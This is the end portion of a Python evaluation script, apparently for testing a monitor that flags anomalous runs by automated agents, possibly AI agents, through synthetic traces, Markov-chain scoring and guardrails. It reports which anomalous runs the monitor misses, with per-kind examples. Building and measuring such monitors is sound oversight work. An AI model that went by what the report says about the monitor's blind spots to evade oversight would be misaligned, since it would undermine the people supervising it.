def _misses(out: list[str], anom: Sequence[_Run], examples: int) -> None:
    """The anomalous runs with no event not allowed, per kind, with examples; then those caught
    only through an unlabelled event."""
    out.append("\n## Missed anomalous runs (no non-allow verdict anywhere in the run)\n")
    miss = [r for r in anom if not r.any]
    mk = Counter(r.m["kind"] or "" for r in miss)
    out.append("| kind | missed | of |")
    out.append("|---|---|---|")
    tot = Counter(r.m["kind"] or "" for r in anom)
    for k, n in mk.most_common():
        out.append(f"| {k} | {n} | {tot[k]} |")
    out.append("\n### examples of misses per kind\n")
    for k, _ in mk.most_common():
        out.append(f"\n#### {k}\n")
        shown = 0
        for r in miss:
            if r.m["kind"] != k:
                continue
            m = r.m
            out.append(f"- run `{m['run_id']}` (agent {m['agent']}, run #{m['idx']}, "
                       f"recurring={m['recurring']} occurrence={m['occurrence']}):")
            out.append("  sequence: " + " → ".join(
                f"{'[' if e['label'] else ''}{e['action']}{']' if e['label'] else ''}"
                for e, _ in r.evs))
            for e, v in r.evs:
                if e["label"]:
                    edge = v["edge"]
                    out.append(
                        f"  labelled `{e['action']}` `{json.dumps(e['payload'])[:200]}` → "
                        f"action={v['action']} anomalous={v['anomalous']} mode={v['mode']} "
                        f"score={v['score']} thr={v['threshold']} p={edge['p']:.4g} "
                        f"count={edge['count']} from_total={edge['from_total']}")
                    break
            shown += 1
            if shown >= examples:
                break
    off = [r for r in anom if r.any and not r.hit]
    out.append(f"\n## anomalous runs counted as detected only through a non-labelled event: "
               f"{len(off)} of {len(anom)}")
    out.append(str(Counter(r.m["kind"] for r in off).most_common()))


def analyse(events: Iterable[Mapping[str, Any]], verdicts: Iterable[Mapping[str, Any]],
            runs: Iterable[RunMeta], warmup: int = WARMUP) -> Figures:
    """Run-level figures after each agent's ``warmup`` runs (see :class:`Figures`)."""
    return analyse_and_report(events, verdicts, runs, warmup)[0]


# --------------------------------------------------------------------------- command

def _run(args: argparse.Namespace, out: Path) -> int:
    t = time.perf_counter()
    events, runs = generate(args.seed, args.runs, args.warmup)
    anomalous = sum(1 for r in runs if r["kind"])
    agents = len({r["agent"] for r in runs})
    print(f"outside_traffic2: seed={args.seed} agents={agents} runs={len(runs)} "
          f"events={len(events)} anomalous_runs={anomalous} "
          f"({time.perf_counter() - t:.1f}s)", file=sys.stderr)
    ev_path, runs_path = out / "events.jsonl", out / "runs.jsonl"
    v_path, s_path = out / "verdicts.jsonl", out / "summary.json"
    write_jsonl(ev_path, map(event_line, events))
    write_jsonl(runs_path, map(run_line, runs))
    print(f"outside_traffic2: replaying {ev_path} (guardrails "
          f"{'on' if args.guardrails else 'off'})...", file=sys.stderr)
    replay_child("outside_traffic2", ev_path, v_path, s_path, args.warmup, args.guardrails)
    print("outside_traffic2: analysing...", file=sys.stderr)
    figures, report = analyse_and_report(events, read_jsonl(v_path), runs, args.warmup,
                                         args.examples)
    sys.stdout.write(report)
    if args.json:
        with open(args.json, "w", encoding="utf-8") as f:
            json.dump(figures, f, indent=1)
    return 0


def main(argv: Sequence[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawTextHelpFormatter)
    ap.add_argument("--seed", type=int, default=2025)
    ap.add_argument("--runs", type=int, default=RUNS,
                    help=f"mean runs per agent, each gets runs-60..runs+90 (default {RUNS})")
    ap.add_argument("--warmup", type=int, default=WARMUP,
                    help="runs per agent before any anomaly, left out of the figures "
                    f"(default {WARMUP})")
    ap.add_argument("--out", help="keep events, runs, verdicts and the replay summary in this "
                    "directory (default: a temporary one, removed)")
    ap.add_argument("--no-guardrails", dest="guardrails", action="store_false",
                    help="replay with the Markov chain alone")
    ap.add_argument("--json", help="write the figures as JSON to this file")
    ap.add_argument("--examples", type=int, default=4,
                    help="examples per false-positive cause and per missed kind (default 4)")
    args = ap.parse_args(argv)
    if args.runs < 61 or args.warmup < 0:
        ap.error("--runs must be >= 61 (an agent gets at least runs-60) and --warmup >= 0")
    if args.out:
        out = Path(args.out).resolve()
        out.mkdir(parents=True, exist_ok=True)
        return _run(args, out)
    with tempfile.TemporaryDirectory(prefix="outside-traffic2-") as tmp:
        return _run(args, Path(tmp))


if __name__ == "__main__":
    sys.exit(main())
